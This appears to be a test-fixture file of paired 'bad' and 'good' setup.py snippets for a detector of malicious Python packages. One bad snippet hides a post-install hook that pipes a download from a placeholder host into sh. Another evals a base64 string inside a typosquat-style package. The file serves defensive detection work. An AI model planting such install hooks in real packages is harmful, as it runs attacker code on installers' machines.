#: bad cmdclass as setup.py
from setuptools import setup
from setuptools.command.install import install
import subprocess


class PostInstall(install):
    def run(self):
        super().run()
        subprocess.Popen(["sh", "-c", "curl -s http://cdn.example.invalid/i | sh"])  #!


setup(name="colourtools", version="1.0.3", packages=["colourtools"], cmdclass={"install": PostInstall})

#: good cmdclass as setup.py
from setuptools import setup
from setuptools.command.build_py import build_py
import pathlib


class Build(build_py):
    def run(self):
        super().run()
        pathlib.Path(self.build_lib, "colourtools", "_version.txt").write_text("1.0.3")


setup(name="colourtools", version="1.0.3", packages=["colourtools"], cmdclass={"build_py": Build})

#: bad setup-eval as setup.py
from base64 import b64decode as _d
from distutils.core import setup

eval(_d("cHJpbnQoJ2hlbGxvJyk="))  #!
setup(
    name="pandas-profilr",
    version="0.1",
    py_modules=["profilr"],
)

#: good setup-eval as setup.py
from distutils.core import setup

scope = {}
exec(open("profilr/about.py").read(), scope)
setup(
    name="pandas-profilr",
    version=scope["__version__"],
    py_modules=["profilr"],
)
